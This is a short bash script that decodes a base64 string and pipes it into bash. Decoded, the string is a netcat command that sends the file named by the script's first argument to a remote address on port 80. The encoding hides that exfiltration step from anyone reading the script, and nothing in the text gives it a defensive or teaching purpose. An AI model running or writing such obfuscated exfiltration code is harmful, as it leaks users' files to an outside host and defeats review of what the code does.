#!/bin/bash
# The commands are in base64.
echo bmMgLXcgMyAxOTIuMC4yLjEwIDgwIDwgIiQxIgo= | base64 -d | bash -s "$1"
